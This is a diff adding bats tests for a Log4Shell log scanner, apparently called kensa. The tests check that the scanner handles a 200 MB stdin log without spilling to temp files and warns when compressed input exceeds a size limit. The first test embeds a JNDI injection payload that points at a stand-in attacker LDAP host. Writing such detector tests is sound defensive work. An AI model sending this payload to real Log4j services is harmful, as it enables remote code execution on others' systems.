@@ -148,3 +148,31 @@ X
     run k log4j --json "$D/app.war"
     echo "$output" | jq_alerts '.kensa.verdict=="mitigated"'
 }
+
+@test "dos: 200 MB of log text on stdin is streamed, nothing spilled to TMPDIR" {
+    command -v strace >/dev/null || skip "strace missing (scripts/install-deps.sh)"
+    mkdir -p "$D/tmp"
+    python3 -c '
+import sys
+line = b"10.0.0.1 - - [11/Dec/2021:10:00:00 +0000] \"GET / HTTP/1.1\" 200 5 \"-\" \"Mozilla/5.0\"\n"
+sys.stdout.buffer.write(line * (200 * 1024 * 1024 // len(line)))
+sys.stdout.buffer.write(b"203.0.113.7 - - [11/Dec/2021:10:00:01 +0000] \"GET /?q=${jndi:ldap://x.evil.example/a} HTTP/1.1\" 200 5\n")
+' > "$D/big.txt"
+    n=$(wc -l < "$D/big.txt")
+    run bash -c "cat '$D/big.txt' | TMPDIR='$D/tmp' timeout 60 strace -f -qq \
+        -e trace=openat -o '$D/strace' '$KENSA' logs --json --no-summary --threads 1 -"
+    rm -f "$D/big.txt"
+    [ "$status" -eq 1 ]
+    echo "$output" | jq_alerts ".kensa.verdict==\"attack\" and .kensa.path==\"(stdin)\" and .kensa.line==$n"
+    grep -q 'openat(' "$D/strace"                 # strace saw the opens
+    [ "$(grep -c O_TMPFILE "$D/strace")" -eq 0 ]   # and none was a spill
+    [ -z "$(ls -A "$D/tmp")" ]
+}
+
+@test "dos: compressed stdin is spilled at most --max-scansize, with a warning" {
+    head -c 3000000 /dev/urandom | base64 -w 100 | gzip -c > "$D/in.gz"
+    [ "$(stat -c %s "$D/in.gz")" -gt 2000000 ]
+    run bash -c "cat '$D/in.gz' | timeout 60 '$KENSA' logs --json --no-summary --threads 1 --max-scansize 1M -"
+    echo "$output" | jq_any '.event.kind=="event" and .kensa.path=="(stdin)"
+        and (.error.message|test("max-scansize=1048576 bytes of input; rest of file not scanned"))'
+}
